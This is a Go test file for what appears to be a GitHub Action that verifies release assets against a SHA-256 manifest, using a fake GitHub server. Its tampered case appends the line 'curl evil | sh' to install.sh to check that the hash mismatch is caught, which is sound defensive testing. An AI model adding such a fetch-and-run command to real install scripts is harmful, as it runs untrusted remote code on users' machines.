package action

import (
	"bytes"
	"context"
	"crypto/sha256"
	"encoding/hex"
	"encoding/json"
	"path/filepath"
	"strings"
	"testing"

	"github.com/aepgate/aepgate/internal/gh"
	"github.com/aepgate/aepgate/internal/testkit/ghfake"
)

const receipt = `{"schemaVersion": 1, "version": "1.2.3", "tag": "v1.2.3", "commit": "COMMIT", "state": "adopted",
 "ownerFacingOrchestratorSessionId": "orch-1", "adoptedAt": "2026-11-29T12:00:00Z",
 "adoptions": [{"project": "alpha", "coordinatorSessionId": "coord-a"}]}`

// releaseStep publishes acme/widgets v1.2.3 (closed when tamper is false)
// and returns a release-event step against it.
func releaseStep(t *testing.T, tamper bool) (*ghfake.Repo, string, func() (int, string)) {
	t.Helper()
	f := ghfake.New(t)
	repo := f.CreateRepo("acme/widgets")
	install := "#!/bin/sh\necho v1.2.3\n"
	sum := sha256.Sum256([]byte(install))
	manifest := hex.EncodeToString(sum[:]) + "  install.sh\n"
	commit := repo.Commit("main", "release", map[string]string{"install.sh": install, "manifest.sha256": manifest})
	repo.Tag("v1.2.3", "main", "v1.2.3")
	asset := install
	if tamper {
		asset += "curl evil | sh\n"
	}
	body := "Release v1.2.3\n\n```json\n" + strings.ReplaceAll(receipt, "COMMIT", commit) + "\n```\n"
	repo.PublishRelease("v1.2.3", ghfake.ReleaseOptions{Body: body, Assets: map[string][]byte{
		"install.sh": []byte(asset), "manifest.sha256": []byte(manifest),
	}})
	ws, dir := t.TempDir(), t.TempDir()
	write(t, filepath.Join(ws, "manifest.sha256"), manifest)
	event, _ := json.Marshal(map[string]any{"action": "published", "release": map[string]any{"tag_name": "v1.2.3"}})
	write(t, filepath.Join(dir, "event.json"), string(event))
	vars := map[string]string{
		"GITHUB_REPOSITORY": "acme/widgets", "GITHUB_EVENT_NAME": "release", "GITHUB_EVENT_PATH": filepath.Join(dir, "event.json"),
		"GITHUB_SHA": commit, "GITHUB_API_URL": strings.TrimSuffix(f.URL(), "/"), "GITHUB_WORKSPACE": ws,
		"GITHUB_OUTPUT": filepath.Join(dir, "out"), "GITHUB_STEP_SUMMARY": filepath.Join(dir, "sum"),
		"INPUT_TOKEN":  f.ActionsToken(repo, ghfake.Permissions{"checks": "write", "contents": "read"}),
		"INPUT_CHECKS": "release", "INPUT_ASSETS": "install.sh, manifest.sha256",
	}
	return repo, commit, func() (int, string) {
		var out bytes.Buffer
		code, err := Run(context.Background(), Options{Getenv: func(k string) string { return vars[k] }, Stdout: &out, GitHub: NewConnector(gh.ActionClientOptions{HTTPClient: f.HTTPClient()})})
		if err != nil {
			t.Logf("Run: %v", err)
		}
		return code, out.String()
	}
}

func TestActionReleaseClosure(t *testing.T) {
	tests := []struct {
		name           string
		tamper         bool
		wantCode       int
		wantConclusion string
		wantInSummary  string
	}{
		{"closed", false, ExitOK, "success", "release v1.2.3 is closed"},
		{"tampered asset", true, ExitFailed, "failure", "github-release-asset-hash-mismatch:install.sh"},
	}
	for _, tt := range tests {
		t.Run(tt.name, func(t *testing.T) {
			repo, commit, run := releaseStep(t, tt.tamper)
			code, out := run()
			if code != tt.wantCode {
				t.Fatalf("exit %d, want %d\n%s", code, tt.wantCode, out)
			}
			runs := repo.CheckRuns(commit)
			if len(runs) != 1 || runs[0].Name != "aep/release-closure" || runs[0].Conclusion != tt.wantConclusion {
				t.Fatalf("check runs on the tagged commit: %+v", runs)
			}
			if !strings.Contains(runs[0].Title+runs[0].Summary, tt.wantInSummary) {
				t.Errorf("run does not mention %q:\n%s\n%s", tt.wantInSummary, runs[0].Title, runs[0].Summary)
			}
		})
	}
}
